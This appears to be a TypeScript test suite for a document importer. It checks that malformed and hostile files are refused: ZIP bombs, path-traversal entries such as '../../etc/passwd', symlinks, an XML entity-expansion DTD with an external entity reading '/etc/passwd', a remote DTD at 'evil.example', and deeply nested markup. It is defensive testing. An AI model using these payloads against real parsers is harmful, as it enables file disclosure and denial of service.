import { expect } from '@open-wc/testing';
import { strToU8, zipSync } from 'fflate';
import { problemMessage } from '../../src/formats/problems.js';
import { BOMBS } from '../fixtures/import/bombs.js';
import { readFile } from '../fixtures/import/expect.js';
import { expectValid } from '../fixtures/import/invariants.js';
import { docxParts, odtParts, zip } from '../fixtures/import/packages.js';

const PARAGRAPH = '<w:p><w:r><w:t>Un párrafo que se lee.</w:t></w:r></w:p>';
const DOCX = docxParts(PARAGRAPH);

/** Codes of what is wrong with a file, errors only. */
async function errors(name: string, content: string | Uint8Array, options = {}): Promise<string[]> {
  const { drafts, problems } = await readFile(name, content, options);
  drafts.forEach(expectValid);
  for (const problem of problems)
    for (const language of ['es', 'en'] as const) {
      const message = problemMessage(problem, language);
      expect(message.startsWith(name)).to.equal(true);
      expect(message).not.to.match(/\{\w+\}|undefined|NaN/);
    }
  return problems.filter(({ severity }) => severity === 'error').map(({ code }) => code);
}

/** Where the headers of a file in a ZIP file are: the local one, before the data, and that of the directory. */
function headersOf(bytes: Uint8Array, name: string): { local: number; central: number } {
  const text = new TextDecoder('latin1').decode(bytes);
  return { local: text.indexOf(name) - 30, central: text.lastIndexOf(name) - 46 };
}

/** A ZIP file with a number of four bytes changed in the directory's header of a file. */
function patch(bytes: Uint8Array, name: string, offset: number, value: number): Uint8Array {
  const copy = bytes.slice();
  new DataView(copy.buffer).setUint32(headersOf(copy, name).central + offset, value, true);
  return copy;
}

describe('files that are not what they say', () => {
  it('are recognised by their content, and the wrong name is said', async () => {
    for (const [name, content, format] of [
      ['a.docx', '<!DOCTYPE html><html><body><p>Hola, mundo entero.</p></body></html>', 'html'],
      ['a.html', zip(DOCX), 'docx'],
      ['a.txt', zip(odtParts('<text:p>Hola, mundo.</text:p>')), 'odt'],
      ['a.pdf', 'Un texto sin más.', 'text'],
    ] as const) {
      const { format: found, problems } = await readFile(name, content);
      expect(found?.id).to.equal(format);
      expect(problems.map(({ code }) => code)).to.include('extension-wrong');
    }
  });

  it('are refused by name when Cotejo does not read them', async () => {
    expect(await errors('a.doc', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]))).to.deep.equal(
      ['format-unread'],
    );
    expect(await errors('a.html', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]))).to.deep.equal([
      'format-unread',
    ]);
    expect(await errors('a.bin', new Uint8Array([0, 1, 2, 3, 0, 0, 0]))).to.deep.equal(['format-unknown']);
    expect(await errors('a.html', '')).to.deep.equal(['file-empty']);
    expect(await errors('a.html', '<html><body><nav><a href="/">Inicio</a></nav></body></html>')).to.deep.equal([
      'no-text',
    ]);
  });

  it('are refused at once when they are too large', async () => {
    expect(await errors('a.html', new Uint8Array(200 * 2 ** 20))).to.deep.equal(['file-too-large']);
    const limits = { markupBytes: 10_000 };
    const long = `<p>${'palabra '.repeat(2000)}</p>`;
    for (const name of ['a.html', 'a.md', 'a.txt'])
      expect(await errors(name, long, { limits })).to.deep.equal(['markup-too-large']);
    expect(await errors('a.docx', zip(docxParts(PARAGRAPH.repeat(300))), { limits })).to.deep.equal([
      'markup-too-large',
    ]);
  });
});

describe('hostile ZIP files', () => {
  const good = zip(DOCX);

  it('that are cut off are refused, wherever the cut is', async () => {
    for (const share of [0.1, 0.5, 0.9, 0.99])
      expect(await errors('a.docx', good.slice(0, good.length * share))).to.deep.equal(['zip-damaged']);
    const flipped = good.slice();
    flipped[headersOf(good, 'word/document.xml').local + 30 + 'word/document.xml'.length + 40] ^= 0xff;
    expect(await errors('a.docx', flipped)).to.deep.equal(['zip-damaged']);
  });

  it('that unpack to far more than they are, or lie about it, are refused', async () => {
    const bomb = zip({ ...DOCX, 'word/document.xml': new Uint8Array(12 * 2 ** 20) });
    expect(await errors('bomba.docx', bomb)).to.deep.equal(['zip-ratio']);
    // The directory says ten bytes; what comes out of the packed data is counted.
    expect(await errors('a.docx', patch(bomb, 'word/document.xml', 24, 10))).to.deep.equal(['zip-damaged']);
    expect(await errors('a.docx', good, { limits: { unzippedBytes: 500 } })).to.deep.equal(['zip-too-large']);
  });

  it('that reach out of themselves, repeat or hide a name, are refused', async () => {
    expect(await errors('a.docx', zip({ ...DOCX, '../../etc/passwd': 'x' }))).to.deep.equal(['zip-path']);
    expect(await errors('a.docx', zip({ ...DOCX, '/etc/passwd': 'x' }))).to.deep.equal(['zip-path']);
    expect(await errors('a.docx', zip({ ...DOCX, 'a\\..\\b': 'x' }))).to.deep.equal(['zip-path']);
    const link = zipSync({ 'word/document.xml': [strToU8('/etc/passwd'), { os: 3, attrs: 0xa1ff0000 }] });
    expect(await errors('a.docx', link)).to.deep.equal(['zip-link']);
    const twice = new TextDecoder('latin1')
      .decode(zip({ ...DOCX, 'word/documenx.xml': 'x' }))
      .replaceAll('documenx', 'document');
    expect(
      await errors(
        'a.docx',
        Uint8Array.from(twice, (c) => c.charCodeAt(0)),
      ),
    ).to.have.members(['zip-duplicate']);
    expect(await errors('a.docx', patch(good, 'word/document.xml', 8, 0x80001))).to.deep.equal(['zip-encrypted']);
    const many = Object.fromEntries(Array.from({ length: 10_050 }, (_, i) => [`f${i}!`, '']));
    expect(await errors('a.docx', zip({ ...DOCX, ...many }))).to.deep.equal(['zip-entries']);
  });

  it('without the part that holds the words are refused by its name', async () => {
    const { 'word/document.xml': _gone, ...rest } = DOCX;
    expect(await errors('a.docx', zip(rest))).to.deep.equal(['part-missing']);
    expect(await errors('a.odt', zip({ 'mimetype!': 'application/vnd.oasis.opendocument.text' }))).to.deep.equal([
      'part-missing',
    ]);
    expect(await errors('a.epub', zip({ 'mimetype!': 'application/epub+zip' }))).to.deep.equal(['part-missing']);
  });
});

describe('hostile XML', () => {
  const document = (body: string, doctype = ''): Uint8Array => {
    const files = docxParts(body);
    files['word/document.xml'] = files['word/document.xml'].replace('?>', `?>${doctype}`);
    return zip(files);
  };

  it('has no entities but its own five, and no DTD', async () => {
    const laughs = `<!DOCTYPE x [<!ENTITY a "ja"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;"><!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>`;
    const { drafts, problems } = await readFile(
      'a.docx',
      document('<w:p><w:r><w:t>&lt;&amp;&#233;&c;&f;&constructor;</w:t></w:r></w:p>', laughs),
    );
    expect(drafts[0].blocks[0].text).to.equal('<&é&c;&f;&constructor;');
    expect(problems.filter(({ code }) => code === 'xml-entity').map(({ parameters }) => parameters.name)).to.deep.equal(
      ['c', 'f', 'constructor'],
    );
  });

  it('that is not well formed is refused with the line', async () => {
    const { problems } = await readFile('a.docx', document('\n\n<w:p><w:r></w:p>'));
    expect([problems[0].code, problems[0].line]).to.deep.equal(['xml-invalid', 3]);
  });

  it('that is nested 100,000 deep is refused, in no time', async () => {
    const n = 100_000;
    const limits = { zipRatio: 100_000 };
    const xml = `${'<w:sdt><w:sdtContent>'.repeat(n / 2)}${PARAGRAPH}${'</w:sdtContent></w:sdt>'.repeat(n / 2)}`;
    expect(await errors('a.docx', document(xml), { limits })).to.deep.equal(['too-deep']);
    const text = `${'<text:section>'.repeat(n)}x${'</text:section>'.repeat(n)}`;
    expect(await errors('a.odt', zip(odtParts(text)), { limits })).to.deep.equal(['too-deep']);
    expect(
      await errors('a.epub', zip({ 'mimetype!': 'application/epub+zip', 'x.opf': '<x>'.repeat(n) }), { limits }),
    ).to.deep.equal(['too-deep']);
  });
});

describe('hostile HTML, Markdown and plain text', function () {
  this.timeout(20_000);
  /** Most milliseconds that any of these may take: a machine under load is slow, a square is slower. */
  const MOST = 6000;
  for (const [name, [file, content]] of Object.entries(BOMBS)) {
    it(`${name}: bounded, and never a failure of the reader`, async () => {
      const start = performance.now();
      const codes = await errors(file, content, { limits: { nodes: 300_000 } });
      expect(performance.now() - start).to.be.below(MOST);
      expect(codes).not.to.include('reader-failed');
    });
  }

  it('can be stopped at any time', async () => {
    for (const after of [0, 1, 4]) {
      let steps = 0;
      const signal = { aborted: false };
      const pause = (): Promise<void> => {
        if (steps++ >= after) signal.aborted = true;
        return Promise.resolve();
      };
      const long = `<p>${'palabra <b>negra</b> '.repeat(60_000)}</p>`;
      const error = await readFile('a.html', long, { signal, pause }).catch((reason: Error) => reason);
      expect((error as Error).name).to.equal('AbortError');
    }
  });

  it('tells how far it is, rising to the end', async () => {
    const shares: number[] = [];
    await readFile('a.html', `<p>${'palabra '.repeat(40_000)}</p>`, {
      progress: (share: number) => shares.push(share),
    });
    expect(shares[shares.length - 1]).to.equal(1);
    expect([...shares].sort((a, b) => a - b)).to.deep.equal(shares);
  });
});
